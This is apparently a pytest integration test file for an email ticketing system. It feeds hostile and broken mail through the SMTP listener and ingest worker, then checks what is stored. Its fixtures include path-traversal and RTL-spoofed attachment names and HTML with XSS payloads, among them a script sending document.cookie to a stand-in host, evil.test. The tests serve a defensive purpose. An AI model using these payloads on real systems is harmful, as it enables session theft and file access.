"""Hostile and broken input, end to end, on SQLite and PostgreSQL: bytes in, raw stored, then ticket and
message rows or a recorded refusal, and nothing left pending.

Where the case is about SMTP the bytes go through the real aiosmtpd listener on a loopback port;
otherwise they are stored with `app.rawstore.put` and processed by the real ingest worker. The unit
tests of `inbox.ingest.parse` cover the same shapes at the parser; these check what reaches the
database (PostgreSQL refuses NULs and lone surrogates in text, which the parser alone cannot show),
what the listener answers, and what a person sees. No test asserts on time: every size is bounded
so the file runs in seconds per database.
"""

from __future__ import annotations

import asyncio
import json
import unicodedata
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path

import pytest
from sqlalchemy import select

from autoresponder.attachments import attachments_of
from inbox.app import App
from inbox.cli import main
from inbox.domain.ticket import Outcome
from inbox.ingest.parse import MAX_TEXT_CHARS
from inbox.receive.smtp import MAX_RECIPIENTS
from inbox.store import tickets as store
from inbox.store.tables import Attachment, Event, OutboxRow, Participant, RawMessage, Ticket, TicketMessage
from tests.fakes import mail, make_app, make_settings, write_config
from tests.integration.test_smtp import TIMEOUT, client, crlf, listening, rows, send, transact

SUBJECT_CAP = 998  # RFC 5322 section 2.1.1, and the project's own cap on the subjects it sends (render.MAX_SUBJECT)


@pytest.fixture
def app(db_url: str, tmp_path: Path) -> Iterator[App]:
    app = make_app(make_settings(tmp_path, db_url))
    yield app
    app.close()


# --- helpers ------------------------------------------------------------------------------------------


def ingest(app: App, data: bytes) -> tuple[int, Outcome]:
    """Store the bytes as the files/IMAP paths do and run the real worker on them."""
    ref = app.rawstore.put(data, "test")
    return ref.id, process(app, ref.id)


def process(app: App, raw_id: int) -> Outcome:
    done = app.worker().run_batch([raw_id])
    assert [i for i, _ in done] == [raw_id], f"raw #{raw_id} was not processed: {done}"
    return done[0][1]


def raw_row(app: App, raw_id: int) -> RawMessage:
    with app.sessions() as session:
        return session.get(RawMessage, raw_id)


def nothing_pending(app: App) -> None:
    """Every raw row is processed: none waiting, claimed, failed or quarantined, none with an error."""
    with app.sessions() as session:
        states = session.execute(select(RawMessage.id, RawMessage.state, RawMessage.last_error)).all()
    assert states and all(state == "processed" and error is None for _, state, error in states), states


def the_ticket(app: App, raw_id: int) -> tuple[Ticket, TicketMessage]:
    """The one ticket the raw row made, and its one message."""
    with app.sessions() as session:
        raw = session.get(RawMessage, raw_id)
        assert raw.ticket_id is not None, (raw.outcome, raw.last_error)
        ticket = session.get(Ticket, raw.ticket_id)
        [message] = store.messages_of(session, ticket.id)
        session.expunge_all()
    assert message.raw_id == raw_id
    return ticket, message


def stored_text(app: App) -> list[str]:
    """Every text value of tickets, messages, attachments, events and outbox contexts, as stored."""
    values: list[str] = []
    with app.sessions() as session:
        for t in session.scalars(select(Ticket)):
            values += [t.subject, t.requester]
        for m in session.scalars(select(TicketMessage)):
            values += [m.subject, m.text, m.visible_text, m.from_addr, m.from_name, m.message_id,
                       m.in_reply_to or "", m.references or "", *m.to_addrs, *m.cc_addrs]
        values += list(session.scalars(select(Attachment.filename)))
        values += [json.dumps(d, ensure_ascii=False) for d in session.scalars(select(Event.detail))]
        values += [json.dumps(c, ensure_ascii=False) for c in session.scalars(select(OutboxRow.context))]
    return values


def readable(text: str) -> bool:
    """Text any terminal, file or database can take: no NUL, no lone surrogate."""
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        return False
    return "\x00" not in text


def run_cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str]:
    code = main(list(argv))
    out, _ = capsys.readouterr()
    return code, out


# --- 1. a 1 MB header --------------------------------------------------------------------------------

MEGA_SUBJECT = ("word " * 200_000).strip()  # 999,999 characters


def folded(value: str) -> bytes:
    """A header value folded as RFC 5322 section 2.2.3 asks, lines under 80 octets (written here:
    the standard library's folding is quadratic and would take seconds)."""
    words = value.split(" ")
    return b"\n ".join(" ".join(words[i : i + 14]).encode() for i in range(0, len(words), 14))


def with_headers(data: bytes, **values: bytes) -> bytes:
    """`data` (from `mail(subject="placeholder")`) with its Subject, and any other header, set to raw bytes."""
    extra = b"".join(b"%s: %s\n" % (name.replace("_", "-").encode(), v) for name, v in values.items() if name != "Subject")
    return data.replace(b"Subject: placeholder\n", b"Subject: " + values.get("Subject", b"placeholder") + b"\n" + extra, 1)


async def test_a_megabyte_header_within_the_size_limit_is_accepted_over_smtp_and_makes_a_ticket(app: App) -> None:
    """A 1 MB Subject, folded as RFC 5322 asks, within smtp.max_message_bytes: 250, stored byte-exact,
    ingested into one open ticket; the body text stays within the parser's cap; nothing pending."""
    data = with_headers(mail(subject="placeholder"), Subject=folded(MEGA_SUBJECT), X_Junk=folded("junk " * 200_000))
    assert len(data) > 2_000_000
    async with listening(app) as door:
        code, text = await send(door.port, data)
    assert (code, text.split()[0]) == (250, "2.0.0")
    [row] = rows(app)
    assert row.data == crlf(data) and row.size == len(crlf(data))
    assert process(app, row.id) == Outcome.OPENED
    ticket, message = the_ticket(app, row.id)
    assert ticket.status == "open" and ticket.requester == "alice@acme.com"
    assert ticket.subject.startswith("word word") and readable(ticket.subject)
    assert len(message.text) <= MAX_TEXT_CHARS and message.text.startswith("Our printer is on fire.")
    assert all(len(v) <= 2 * len(MEGA_SUBJECT) for v in stored_text(app))  # nothing blown up beyond the input
    nothing_pending(app)


async def test_a_megabyte_single_line_is_refused_over_smtp_with_500_and_nothing_stored(app: App) -> None:
    """One physical 1 MB header line breaks RFC 5321's 998-octet line limit: after the final dot the
    listener answers 500 5.5.2 in its own words, counts it as line_too_long, stores nothing, and the
    session goes on."""
    data = with_headers(mail(subject="placeholder"), X_Junk=b"j" * 1_000_000)
    async with listening(app) as door:
        async with client(door.port) as smtp:
            code, text = await transact(smtp, data)
            assert (code, text.split()[0]) == (500, "5.5.2")
            assert (await transact(smtp, mail(message_id="<after@acme.com>")))[0] == 250
        assert door.refused("line_too_long") == 1
    [row] = rows(app)
    assert b"X-Junk" not in row.data


@pytest.mark.parametrize("shape", ["folded", "one line"])
def test_a_megabyte_subject_is_stored_bounded(app: App, shape: str) -> None:
    """A 1 MB Subject (folded, or on one line as a file or IMAP may hand it over) makes a ticket whose
    stored subject is bounded, like every other header-derived column."""
    one_mb = folded(MEGA_SUBJECT) if shape == "folded" else b"S" * 1_000_000
    data = with_headers(mail(subject="placeholder"), Subject=one_mb)
    raw_id, outcome = ingest(app, data)
    assert outcome == Outcome.OPENED
    nothing_pending(app)
    ticket, message = the_ticket(app, raw_id)
    assert len(ticket.subject) <= SUBJECT_CAP
    assert len(message.subject) <= SUBJECT_CAP
    with app.sessions() as session:
        contexts = list(session.scalars(select(OutboxRow.context)))
    assert all(len(c["ticket"]["subject"]) <= SUBJECT_CAP for c in contexts)


# --- 2. 10,000 recipients ---------------------------------------------------------------------------

RECIPIENTS = 10_000


def test_ten_thousand_addressees_are_recorded_once_each_and_only_the_requester_is_mailed(app: App) -> None:
    """10,000 addresses in To and Cc: one ticket. The pipeline has no cap on copied addresses: each
    becomes a participant once (lower-cased, bounded to 320 characters), our own addresses never do,
    and the acknowledgement goes to the requester alone (no mail amplification to the copied)."""
    half = RECIPIENTS // 2
    to = ["support@example.com"] + [f"To.Person{i}@Partner{i % 37}.test" for i in range(half)]
    cc = [f"cc{i}@cc{i % 41}.test" for i in range(half)] + ["help@example.com", "to.person0@partner0.test"]
    data = mail(to=", ".join(to), headers={"Cc": ", ".join(cc)})
    raw_id, outcome = ingest(app, data)
    assert outcome == Outcome.OPENED
    nothing_pending(app)
    ticket, message = the_ticket(app, raw_id)
    copied = {a.lower() for a in to[1:] + cc[:half]}
    assert len(copied) == RECIPIENTS
    assert set(message.to_addrs) == {a.lower() for a in to} and len(message.to_addrs) == half + 1
    assert set(message.cc_addrs) == {a.lower() for a in cc} and len(message.cc_addrs) == half + 2
    with app.sessions() as session:
        roles = dict(session.execute(select(Participant.address, Participant.role)
                                     .where(Participant.ticket_id == ticket.id)).all())
        outbox = session.execute(select(OutboxRow.kind, OutboxRow.recipient)).all()
    assert roles.pop("alice@acme.com") == "requester"
    assert set(roles) == copied and set(roles.values()) == {"copied"}
    assert max(len(a) for a in roles) <= 320
    assert [(k, r) for k, r in outbox if r != "engineer@example.com"] == [("acknowledgement", "alice@acme.com")]


# --- 3. 10,000 RCPT TO ------------------------------------------------------------------------------

RCPTS = 10_000


async def _rcpt_flood(port: int, rcpts: list[str], data: bytes) -> tuple[list[bytes], bytes]:
    """EHLO, MAIL, every RCPT written at once (as a pipelining client would), then DATA: each reply's code
    line, in order, and the reply to the final dot."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)

    async def reply() -> bytes:
        while True:
            line = await asyncio.wait_for(reader.readline(), TIMEOUT)
            assert line, "the server hung up"
            if line[3:4] != b"-":
                return line

    try:
        assert (await reply()).startswith(b"220")
        writer.write(b"EHLO client.test\r\n")
        assert (await reply()).startswith(b"250")
        writer.write(b"MAIL FROM:<flood@elsewhere.test>\r\n")
        assert (await reply()).startswith(b"250")
        writer.write(b"".join(b"RCPT TO:<%s>\r\n" % r.encode() for r in rcpts))
        answers = [await reply() for _ in rcpts]
        writer.write(b"DATA\r\n")
        assert (await reply()).startswith(b"354")
        writer.write(crlf(data) + b".\r\n")
        final = await reply()
        writer.write(b"QUIT\r\n")
        await writer.drain()
        return answers, final
    finally:
        writer.close()


async def test_ten_thousand_rcpt_to_get_550_for_strangers_452_past_the_cap_and_one_row(app: App) -> None:
    """10,000 RCPT TO in one transaction, half our addresses (plus and case variants) and half
    strangers: strangers get 550 5.1.1 (never a relay), ours 250 up to MAX_RECIPIENTS and 452 4.5.3
    after it (RFC 5321 section 4.5.3.1.10); each refusal is counted; the DATA is stored once, as one
    raw row with the MAX_RECIPIENTS accepted addresses."""
    ours = ["support@example.com", "Support@Example.COM", "help@example.com", "support+{i}@example.com"]
    rcpts = [ours[i % 8 // 2].format(i=i) if i % 2 == 0 else f"stranger{i}@elsewhere.test" for i in range(RCPTS)]
    data = mail(message_id="<flood@elsewhere.test>")
    async with listening(app) as door:
        answers, final = await _rcpt_flood(door.port, rcpts, data)
        assert door.refused("unknown_recipient") == RCPTS // 2
        assert door.refused("too_many_recipients") == RCPTS // 2 - MAX_RECIPIENTS
    codes = [a[:9] for a in answers]
    assert all(c == b"550 5.1.1" for c in codes[1::2])
    ours_codes = codes[0::2]
    assert ours_codes[:MAX_RECIPIENTS] == [b"250 2.1.5"] * MAX_RECIPIENTS
    assert set(ours_codes[MAX_RECIPIENTS:]) == {b"452 4.5.3"}
    assert final.startswith(b"250 2.0.0")
    [row] = rows(app)
    assert row.rcpt_tos == rcpts[0 : 2 * MAX_RECIPIENTS : 2] and row.data == crlf(data)
    assert process(app, row.id) == Outcome.OPENED
    nothing_pending(app)


# --- 4. deeply nested multiparts --------------------------------------------------------------------

DEPTH = 5_000


def _nested_multipart(depth: int) -> bytes:
    raw = b"From: Alice <alice@acme.com>\nTo: support@example.com\nSubject: deep\nMessage-ID: <deep@acme.com>\n"
    raw += b"Content-Type: multipart/mixed; boundary=b0\n\n"
    raw += b"".join(b"--b%d\nContent-Type: multipart/mixed; boundary=b%d\n\n" % (i - 1, i) for i in range(1, depth))
    raw += b"--b%d\nContent-Type: text/plain\n\nhello from the bottom\n" % (depth - 1)
    return raw + b"".join(b"--b%d--\n" % i for i in reversed(range(depth)))


def _nested_messages(depth: int) -> bytes:
    """message/rfc822 inside message/rfc822: no boundary at all, so no multipart count can catch it."""
    inner = b"From: x@acme.com\nSubject: innermost\n\nhello from the bottom\n"
    head = b"From: x@acme.com\nSubject: wrap\nContent-Type: message/rfc822\n\n"
    top = (b"From: Alice <alice@acme.com>\nTo: support@example.com\nSubject: deep\nMessage-ID: <deep@acme.com>\n"
           b"MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=top\n\n--top\nContent-Type: text/plain\n\n"
           b"see the attached message\n--top\nContent-Type: message/rfc822\n\n")
    return top + head * depth + inner + b"--top--\n"


@pytest.mark.parametrize("shape", ["multipart", "message/rfc822"])
def test_five_thousand_nested_levels_make_a_ticket_without_recursion_error(app: App, shape: str) -> None:
    """5,000 nested levels (multiparts, or attached messages): a ticket with its sender and subject,
    no RecursionError escaping as a failure or quarantine, nothing pending."""
    data = _nested_multipart(DEPTH) if shape == "multipart" else _nested_messages(DEPTH)
    raw_id, outcome = ingest(app, data)
    assert outcome == Outcome.OPENED
    nothing_pending(app)
    ticket, message = the_ticket(app, raw_id)
    assert (ticket.subject, ticket.requester) == ("deep", "alice@acme.com")
    assert readable(message.text) and len(message.text) <= MAX_TEXT_CHARS
    assert raw_row(app, raw_id).data == data


# --- 5. unknown and wrong charsets ------------------------------------------------------------------

CHARSETS = {
    "unknown charset": (b'Content-Type: text/plain; charset="x-klingon"\n\n', b"Qapla'! The export fails \xe9\xff.\n"),
    "utf-8 declared, latin-1 sent": (b"Content-Type: text/plain; charset=utf-8\n\n", b"The export fails caf\xe9 \xff\xfe.\n"),
    "utf-8 declared, truncated sequence": (b"Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n",
                                           b"VGhlIGV4cG9ydCBmYWlscyDi\n"),
    "iso-2022-jp declared, binary sent": (b"Content-Type: text/plain; charset=iso-2022-jp\n\n",
                                          b"The export fails \x1b$B\xff\xfe\x80\n"),
    "unknown charset in the subject too": (b'Content-Type: text/plain; charset="x-klingon"\n\n', b"The export fails \x81\n"),
}


@pytest.mark.parametrize("case", list(CHARSETS))
def test_a_body_in_an_unknown_or_wrong_charset_makes_a_ticket_with_readable_text(app: App, case: str) -> None:
    """A body whose charset nobody knows, or whose bytes are invalid for the charset it declares: a ticket
    whose text is readable (the ASCII words intact, replacement characters allowed, no lone surrogate
    that PostgreSQL or a terminal would refuse)."""
    head, body = CHARSETS[case]
    subject = b"=?x-klingon?q?caf=E9_broken?=" if "subject" in case else b"export broken"
    data = (b"From: Alice <alice@acme.com>\nTo: support@example.com\nSubject: " + subject
            + b"\nMessage-ID: <cs@acme.com>\nMIME-Version: 1.0\n" + head + body)
    raw_id, outcome = ingest(app, data)
    assert outcome == Outcome.OPENED
    nothing_pending(app)
    ticket, message = the_ticket(app, raw_id)
    assert "The export fails" in message.text and "The export fails" in message.visible_text
    assert all(readable(v) for v in (ticket.subject, message.subject, message.text, message.visible_text))
    assert "broken" in ticket.subject
    assert raw_row(app, raw_id).data == data


# --- 6. NUL bytes -----------------------------------------------------------------------------------


def _nul_mail() -> bytes:
    return (
        b"From: Al\x00ice <alice@acme.com>\r\n"
        b"To: support@example.com, pa\x00rtner@vendor.test\r\n"
        b"Cc: =?utf-8?q?C=00c?= <cc@vendor.test>\r\n"
        b"Subject: print\x00er =?utf-8?q?on=00fire?=\r\n"
        b"Message-ID: <nul\x00id@acme.com>\r\n"
        b"References: <ref\x00one@acme.com>\r\n"
        b"X-Junk: \x00\x00\x00\r\n"
        b"MIME-Version: 1.0\r\n"
        b"Content-Type: multipart/mixed; boundary=NUL\r\n\r\n"
        b"--NUL\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        b"Our printer\x00 is on fire.\x00\r\n"
        b"--NUL\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        b"QUAAQgBDAA==\r\n"  # "A\0B\0C\0": NULs only visible after decoding
        b"--NUL\r\nContent-Type: application/octet-stream\r\n"
        b"Content-Disposition: attachment; filename=\"a\x00b.bin\"\r\n\r\nbinary\x00data\r\n"
        b"--NUL--\r\n"
    )


async def test_nul_bytes_in_headers_and_body_are_stored_raw_and_never_reach_the_ticket(app: App) -> None:
    """NULs in headers (raw and RFC 2047-encoded), in the body (raw and base64) and in a file name,
    received over SMTP: 250, the raw kept with its NULs, and a ticket with no NUL in any stored text
    (PostgreSQL refuses NUL in text columns, so on it this is also "the insert did not fail")."""
    data = _nul_mail()
    async with listening(app) as door:
        code, _ = await send(door.port, data)
    assert code == 250
    [row] = rows(app)
    assert row.data == data and data.count(b"\x00") == 12
    assert process(app, row.id) == Outcome.OPENED
    nothing_pending(app)
    ticket, message = the_ticket(app, row.id)
    assert ticket.requester == "alice@acme.com" and "printer" in ticket.subject
    assert "Our printer is on fire." in message.text
    values = stored_text(app)
    assert not [v for v in values if not readable(v)]
    assert all("\\u0000" not in v for v in values)  # nor escaped inside the JSON of events and outbox


# --- 7. attachment names ----------------------------------------------------------------------------

HOSTILE_NAMES = {
    "../../etc/passwd": 'filename="../../etc/passwd"',
    "/etc/shadow": 'filename="/etc/shadow"',
    "windows path": 'filename="C:\\\\Windows\\\\System32\\\\evil.dll"',
    "control characters": 'filename="inv\x07oice\x1b[31m\x7f\x01.pdf"',
    "RTL override": "filename*=utf-8''invoice%E2%80%AEfdp.exe",
    "RTL override, encoded word": 'filename="=?utf-8?q?report=E2=80=AEgpj.exe?="',
    "empty": 'filename=""',
    "dots": 'filename=".."',
    "C1 control and NUL": "filename*=utf-8''a%C2%85b%00c.txt",
}


def _with_attachments(names: dict[str, str]) -> bytes:
    parts = [b"--ATT\r\nContent-Type: text/plain\r\n\r\nSee the attached files.\r\n"]
    for param in names.values():
        parts.append(b"--ATT\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; "
                     + param.encode("latin-1") + b"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                     + b"ZmlsZSBjb250ZW50\r\n")  # "file content"
    return (b"From: Alice <alice@acme.com>\r\nTo: support@example.com\r\nSubject: files\r\n"
            b"Message-ID: <files@acme.com>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=ATT\r\n\r\n"
            + b"".join(parts) + b"--ATT--\r\n")


def _unsafe(name: str) -> list[str]:
    """What makes a file name unsafe to write to a disk or show to a person."""
    problems = []
    if not name or name in {".", ".."}:
        problems.append("empty or a dot name")
    if "/" in name or "\\" in name or (len(name) > 1 and name[1] == ":"):
        problems.append("a path")
    if name != name.strip() or name.startswith("."):
        problems.append("leading or trailing space or dot")
    odd = [f"U+{ord(ch):04X}" for ch in name if unicodedata.category(ch)[0] == "C"]  # Cc controls, Cf bidi overrides
    if odd:
        problems.append(f"control or format characters {odd}")
    if len(name) > 255:
        problems.append("longer than 255")
    return problems


def test_hostile_attachment_names_are_stored_as_safe_base_names(app: App) -> None:
    """Paths, absolute paths, control characters, a right-to-left override, an empty name: each
    attachment is recorded, in order, under a safe base name (no directory, no control or format
    character, never empty), keeping the readable part of the name."""
    raw_id, outcome = ingest(app, _with_attachments(HOSTILE_NAMES))
    assert outcome == Outcome.OPENED
    nothing_pending(app)
    _, message = the_ticket(app, raw_id)
    with app.sessions() as session:
        stored = list(session.scalars(select(Attachment.filename).where(Attachment.message_id == message.id)
                                      .order_by(Attachment.id)))
    assert len(stored) == len(HOSTILE_NAMES)
    assert {name: _unsafe(name) for name in stored if _unsafe(name)} == {}
    named = dict(zip(HOSTILE_NAMES, stored))
    assert named["../../etc/passwd"] == "passwd" and named["/etc/shadow"] == "shadow"
    assert named["windows path"] == "evil.dll"
    assert named["RTL override"] == "invoicefdp.exe" and named["control characters"] == "invoice[31m.pdf"
    assert named["empty"] == named["dots"] == "attachment.bin"


def test_relayed_attachments_get_safe_names_too() -> None:
    """When an engineer's reply is relayed, `attachments_of(raw)` names each file safely as well: every
    attachment kept, none named with a path, a control or a bidi-format character, or nothing."""
    kept, left_out = attachments_of(_with_attachments(HOSTILE_NAMES))
    assert left_out == [] and len(kept) == len(HOSTILE_NAMES)
    assert all(a.data == b"file content" for a in kept)
    assert {a.filename: _unsafe(a.filename) for a in kept if _unsafe(a.filename)} == {}


def test_relayed_attachments_lose_paths_and_c0_controls() -> None:
    """What `attachments_of` already guarantees: no directory part, no C0 control, never empty."""
    kept, _ = attachments_of(_with_attachments(HOSTILE_NAMES))
    named = dict(zip(HOSTILE_NAMES, (a.filename for a in kept)))
    assert named["../../etc/passwd"] == "passwd" and named["/etc/shadow"] == "shadow"
    assert named["windows path"] == "evil.dll"
    for name in named.values():
        assert name and "/" not in name and "\\" not in name and name not in {".", ".."}
        assert not any(ord(ch) < 0x20 or ord(ch) == 0x7F for ch in name)


# --- 8. HTML with scripts ---------------------------------------------------------------------------

HOSTILE_HTML = """<html><head><script>alert('head');</script>
<style>body { background: url(javascript:alert('css')) }</style></head>
<body onload="alert('load')"><p>The export fails with error 502.</p>
<script type="text/javascript">document.location='https://evil.test/?c='+document.cookie</script>
<img src="x" onerror="alert('img')"><a href="javascript:alert('link')">click here</a>
<svg onload="alert('svg')"><script>alert('svg-script')</script></svg>
<iframe src="javascript:alert('frame')"></iframe><!-- <script>alert('comment')</script> -->
<SCRIPT SRC=https://evil.test/x.js></SCRIPT><p>Steps: open the report, press export.</p></body></html>
"""


def test_html_only_mail_with_scripts_is_stored_as_text_and_shown_without_markup(
    app: App, db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """An HTML-only mail full of scripts, event handlers and javascript: links: the raw is kept byte-exact,
    the stored text is the words only (no tag, no script or style content, no handler, no javascript:
    URL), and `inbox tickets show`, as text or JSON, prints no markup."""
    msg = EmailMessage()
    msg["From"] = "Alice <alice@acme.com>"
    msg["To"] = "support@example.com"
    msg["Subject"] = "export broken"
    msg["Message-ID"] = "<html@acme.com>"
    msg.set_content(HOSTILE_HTML, subtype="html")
    data = msg.as_bytes()
    raw_id, outcome = ingest(app, data)
    assert outcome == Outcome.OPENED
    nothing_pending(app)
    assert raw_row(app, raw_id).data == data
    _, message = the_ticket(app, raw_id)
    assert "The export fails with error 502." in message.text and "press export" in message.text
    for text in (message.text, message.visible_text):
        lowered = text.lower()
        for bad in ("<script", "<img", "<iframe", "<svg", "onerror", "onload", "javascript:", "alert(", "document.cookie"):
            assert bad not in lowered, (bad, text)
    config = str(write_config(tmp_path, db_url))
    code, out = run_cli(capsys, "--config", config, "tickets", "show", "SUP-000001")
    assert code == 0 and "The export fails with error 502." in out
    assert "<script" not in out.lower() and "onerror" not in out.lower() and "javascript:" not in out.lower()
    code, out = run_cli(capsys, "--config", config, "tickets", "show", "SUP-000001", "--json")
    assert code == 0
    [shown] = json.loads(out)["messages"]
    assert "<script" not in shown["text"].lower() and "javascript:" not in shown["text"].lower()


# --- 9. the size limit, to the byte -----------------------------------------------------------------

LIMIT = 10_000


def _exactly(size: int, tag: str) -> bytes:
    """A CRLF mail of exactly `size` bytes, ending in CRLF, no line over 998 octets, none starting with a dot:
    on the wire its DATA is these bytes, then ".\\r\\n"."""
    head = (f"From: alice@acme.com\r\nTo: support@example.com\r\nSubject: size {tag}\r\n"
            f"Message-ID: <{tag}@acme.com>\r\n\r\n").encode()
    remaining, lines = size - len(head), []
    while remaining:
        n = min(80, remaining)
        n -= remaining - n == 1  # never leave one byte over: a line needs at least its CRLF
        lines.append(b"y" * (n - 2) + b"\r\n")
        remaining -= n
    data = head + b"".join(lines)
    assert len(data) == size and data.endswith(b"\r\n") and b"\n." not in data
    return data


async def test_a_message_of_exactly_the_limit_is_stored_and_one_byte_more_is_refused_552(app: App) -> None:
    """With smtp.max_message_bytes = 10,000 the listener counts the DATA lines as sent, CRLFs included
    and the final "." line excluded: a 10,000-byte message gets 250 and is stored byte-exact; 10,001
    bytes get 552 5.3.4 after the final dot and nothing is stored; both declared with SIZE= as well."""
    at, over = _exactly(LIMIT, "at"), _exactly(LIMIT + 1, "over")
    assert (len(at), len(over)) == (LIMIT, LIMIT + 1)
    async with listening(app, max_message_bytes=LIMIT) as door:
        async with client(door.port) as smtp:
            assert (await transact(smtp, at))[0] == 250
            code, text = await transact(smtp, over)
            assert (code, text.split()[0]) == (552, "5.3.4") and str(LIMIT) in text
            code, _ = await transact(smtp, over, size=LIMIT + 1)  # declared: refused at MAIL
            assert code == 552
            at2 = _exactly(LIMIT, "at2")
            assert (await transact(smtp, at2, size=LIMIT))[0] == 250
        assert door.refused("too_large") == 2
    assert [r.data for r in rows(app)] == [at, at2]
    assert [r.size for r in rows(app)] == [LIMIT, LIMIT]


@pytest.mark.xfail(strict=True, reason="BUG (minor): aiosmtpd counts the DATA size with the doubled quoting "
                   "dots, RFC 1870 section 3 without; a message of exactly max_message_bytes with a line "
                   "starting with '.' is accepted at MAIL SIZE= and then refused 552 after DATA")
async def test_a_message_of_exactly_the_limit_with_a_leading_dot_line_is_stored(app: App) -> None:
    """RFC 1870: the message size excludes the doubled dots of dot-stuffing, so a 10,000-byte message with
    a line starting with "." is within a 10,000-byte limit, as its SIZE=10000 at MAIL was."""
    data = _exactly(LIMIT, "dot")
    data = data.replace(b"\r\nyy", b"\r\n.y", 1)
    assert len(data) == LIMIT and b"\r\n." in data
    async with listening(app, max_message_bytes=LIMIT) as door:
        code, _ = await send(door.port, data, size=LIMIT)
    assert code == 250
    assert [r.data for r in rows(app)] == [data]
